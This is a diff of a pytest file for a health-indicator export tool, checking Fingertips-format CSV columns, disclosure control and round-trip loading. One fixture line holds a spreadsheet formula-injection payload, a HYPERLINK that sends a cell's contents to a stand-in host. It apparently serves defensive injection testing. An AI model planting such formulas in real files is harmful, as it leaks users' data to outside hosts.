@@ -12,7 +12,7 @@ from typer.testing import CliRunner
 
 from carepath.cli import app
 from carepath.engine.run import compute
-from carepath.indicators.export import export
+from carepath.indicators.export import FINGERTIPS_COLUMNS, export
 from carepath.indicators.library import builtin
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -55,12 +55,9 @@ def test_public_export_is_disclosure_controlled_and_in_fingertips_columns(export
                                       "--public", "--out", str(out)])
     assert result.exit_code == 0, result.output
     frame = pd.read_csv(out)
-    for column in ("Indicator ID", "Area Code", "Area Name", "Area Type", "Time period",
-                   "Value", "Lower CI 95.0 limit", "Upper CI 95.0 limit", "Count",
-                   "Denominator", "Value note"):
-        assert column in frame.columns
+    assert tuple(frame.columns[:len(FINGERTIPS_COLUMNS)]) == FINGERTIPS_COLUMNS
     assert "definition_hash" not in frame.columns
-    local = frame[frame["Area Type"] != "national"]
+    local = frame[frame["Area Type"] != "National"]
     counts = local["Count"].dropna()
     assert not counts.between(1, 7).any() and (counts % 5 == 0).all()
     # A suppressed row shows neither value nor count.
@@ -80,3 +77,38 @@ def test_export_refuses_clearly_before_writing(exported_ws, tmp_path, out, fmt, 
     with pytest.raises(ValidationError, match=message):
         export(exported_ws, tmp_path / out, fmt=fmt, indicators=indicators)
     assert not (tmp_path / out).exists()
+
+
+def test_rows_read_as_fingertips_writes_them(exported_ws, tmp_path):
+    """Sex and age go in their own columns, other breakdowns in Category Type / Category,
+    codes as words, each row named for its indicator and its parent."""
+    export(exported_ws, tmp_path / "v.csv", fmt="csv")
+    frame = pd.read_csv(tmp_path / "v.csv")
+    early = frame[frame["Indicator ID"] == "early_stage_known"]
+    assert set(early["Indicator Name"]) == {builtin()["early_stage_known"].title}
+    by_sex = early[early["Sex"] != "Persons"]
+    assert set(by_sex["Sex"]) == {"Male", "Female"} and by_sex["Category Type"].isna().all()
+    groups = early[early["Category Type"] == "Tumour group"]
+    assert "Lung" in set(groups["Category"]) and set(groups["Sex"]) == {"Persons"}
+    practice = early[early["Area Code"] == "P3"].iloc[0]
+    assert practice["Area Type"] == "GP practice" and practice["Parent Name"] == "South"
+    assert set(frame["Compared to parent value"].dropna()) <= {
+        "Better", "Similar", "Worse", "Higher", "Lower", "Not compared"}
+    assert frame["Time period Sortable"].astype(str).str.fullmatch(r"\d{8}").all()
+
+
+def test_an_export_loads_back_as_external_values(exported_ws, tmp_path):
+    """What Carepath writes, its own Fingertips source reads: same areas, periods, values."""
+    from carepath.sources import load_source
+
+    export(exported_ws, tmp_path / "v.csv", fmt="csv", indicators=["early_stage_known"])
+    (res,) = load_source(exported_ws, "fingertips", tmp_path / "v.csv")
+    assert res.rows_read == res.rows_loaded
+    with exported_ws.connect(read_only=True) as con:
+        ours = con.execute("SELECT area_code, period, breakdown, category, value FROM "
+                           "indicator_values WHERE indicator_id = 'early_stage_known' AND "
+                           "breakdown = 'all' ORDER BY ALL").fetchall()
+        back = con.execute("SELECT area_code, period, breakdown, category, value FROM "
+                           "external_indicator_values WHERE indicator_id = 'early_stage_known' "
+                           "AND breakdown = 'all' AND sex = 'Persons' ORDER BY ALL").fetchall()
+    assert back == ours
